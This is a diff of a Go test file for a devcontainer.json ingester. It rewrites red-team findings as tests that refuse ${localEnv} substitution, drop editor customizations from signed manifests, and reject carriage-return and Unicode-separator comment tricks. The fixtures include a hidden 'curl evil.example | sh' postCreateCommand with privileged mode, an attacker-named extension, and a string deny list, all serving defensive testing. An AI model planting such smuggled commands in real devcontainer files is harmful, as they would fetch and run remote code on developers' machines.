@@ -13,41 +13,40 @@ import (
 	"github.com/cordon-dev/cordon/evidence/sign"
 )
 
-// TestRedteamFindingSubstitutionOutsideValues: docs/SPEC.md §7.1 says "No
-// string value may hold NUL or ${" (CLAIMS row 100: host-dependent
-// substitution is refused), but only containerEnv/remoteEnv values and
-// workspaceFolder are checked: name and every string in customizations
-// keep ${localEnv:…}, which the devcontainer CLI substitutes in the whole
-// file (customizations included), so one address means different
-// settings on different hosts.
-func TestRedteamFindingSubstitutionOutsideValues(t *testing.T) {
+// TestRedteamSubstitutionOutsideValues (red-team finding 6): ${…} and NUL
+// are refused in name as in every value; in customizations they cannot
+// matter, because customizations are never carried into a manifest (only
+// their digest is, as customizations_ignored).
+func TestRedteamSubstitutionOutsideValues(t *testing.T) {
 	for name, src := range map[string]string{
-		"name":                `{"image": "` + img + `", "name": "${localEnv:HOME}"}`,
+		"name":            `{"image": "` + img + `", "name": "${localEnv:HOME}"}`,
+		"escaped-in-name": `{"image": "` + img + `", "name": "$\u007blocalEnv:USER}"}`,
+	} {
+		if m, err := Ingest([]byte(src)); !errors.Is(err, ErrInvalid) {
+			t.Errorf("%s: %v %v, want ErrInvalid", name, m, err)
+		}
+	}
+	for name, src := range map[string]string{
 		"customizations":      `{"image": "` + img + `", "customizations": {"vscode": {"settings": {"python.defaultInterpreterPath": "${localEnv:HOME}/.venv/bin/python"}}}}`,
 		"customizations-key":  `{"image": "` + img + `", "customizations": {"${localWorkspaceFolder}": 1}}`,
 		"customizations-NUL":  `{"image": "` + img + `", "customizations": {"x": "a\u0000b"}}`,
-		"escaped-in-name":     `{"image": "` + img + `", "name": "$\u007blocalEnv:USER}"}`,
 		"escaped-in-settings": `{"image": "` + img + `", "customizations": {"x": ["$\u007blocalEnv:SSH_AUTH_SOCK}"]}}`,
 	} {
-		t.Run(name, func(t *testing.T) {
-			m, err := Ingest([]byte(src))
-			if err == nil {
-				t.Errorf("accepted: %s", m.JCS())
-			} else {
-				t.Log(err)
-			}
-		})
+		m, err := Ingest([]byte(src))
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if j := string(m.JCS()); strings.Contains(j, "localEnv") || strings.Contains(j, "localWorkspaceFolder") || strings.Contains(j, `\u0000`) || !strings.Contains(j, `"customizations_ignored":"b3:`) {
+			t.Errorf("%s: customizations carried: %s", name, j)
+		}
 	}
 }
 
-// TestRedteamFindingCustomizationsCarryExecution: customizations are
-// carried verbatim and signed into the manifest, and they can hold what
-// an editor runs or installs: VS Code extensions (code that runs in the
-// environment), a terminal profile or tasks, and even copies of the
-// refused members. The package doc and SPEC §7 say the manifest holds
-// "nothing that executes or widens the sandbox". Informational: this
-// test records what passes.
-func TestRedteamFindingCustomizationsCarryExecution(t *testing.T) {
+// TestRedteamCustomizationsNotCarried (red-team finding 8): what an editor
+// would run or install — extensions, a terminal profile, copies of the
+// refused members — never reaches a signed manifest; only the digest of
+// the customizations does, so the manifest says they were left out.
+func TestRedteamCustomizationsNotCarried(t *testing.T) {
 	src := `{"image": "` + img + `", "customizations": {
 		"vscode": {
 			"extensions": ["attacker.totally-legit"],
@@ -63,8 +62,16 @@ func TestRedteamFindingCustomizationsCarryExecution(t *testing.T) {
 	if err != nil {
 		t.Fatalf("refused: %v", err)
 	}
-	t.Logf("accepted and addressed %s:\n%s", m.ID(), m.JCS())
-	t.Error("customizations carry extensions, terminal commands and refused member names into a signed manifest")
+	j := string(m.JCS())
+	for _, bad := range []string{"attacker", "curl", "privileged", "mounts", "postCreateCommand", "terminal"} {
+		if strings.Contains(j, bad) {
+			t.Errorf("the manifest carries %q: %s", bad, j)
+		}
+	}
+	other, _ := Ingest([]byte(strings.Replace(src, "totally-legit", "other", 1)))
+	if other.ID() == m.ID() {
+		t.Error("different customizations, same address: their digest is not recorded")
+	}
 }
 
 // TestRedteamHoldsMemberSpelling: escapes, duplicates, case, Unicode
@@ -229,10 +236,24 @@ func TestRedteamHoldsDeepNesting(t *testing.T) {
 // devcontainer.json that runs commands when opened in VS Code or
 // Codespaces. environment/testdata/redteam-jsonc.js shows jsonc-parser's
 // reading (node, jsonc-parser 3.3.1).
-func TestRedteamFindingCarriageReturnComment(t *testing.T) {
+func TestRedteamCarriageReturnComment(t *testing.T) {
 	src := "{\"image\": \"" + img + "\", // see docs\r\"postCreateCommand\": \"curl evil.example | sh\", \"privileged\": true,\n}"
 	m, err := Ingest([]byte(src))
-	if err == nil {
-		t.Errorf("ingested without refusal (jsonc-parser reads postCreateCommand and privileged here): %s", m.JCS())
+	if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), "carriage return") {
+		t.Errorf("ingested without refusal (jsonc-parser reads postCreateCommand and privileged here): %v %v", m, err)
+	}
+	for name, src := range map[string]string{
+		"LS":  "{\"image\": \"" + img + "\", // see docs\u2028\"privileged\": true\n}",
+		"PS":  "{\"image\": \"" + img + "\", // see docs\u2029\"privileged\": true\n}",
+		"VT":  "{\"image\": \"" + img + "\"\v}",
+		"end": "{\"image\": \"" + img + "\"}\r",
+	} {
+		if _, err := Ingest([]byte(src)); !errors.Is(err, ErrInvalid) {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+	// CRLF files are ordinary, and separators inside strings are text.
+	if _, err := Ingest([]byte("{\r\n\"image\": \"" + img + "\", // c\r\n\"name\": \"a\u2028b\"\r\n}\r\n")); err != nil {
+		t.Errorf("CRLF file: %v", err)
 	}
 }
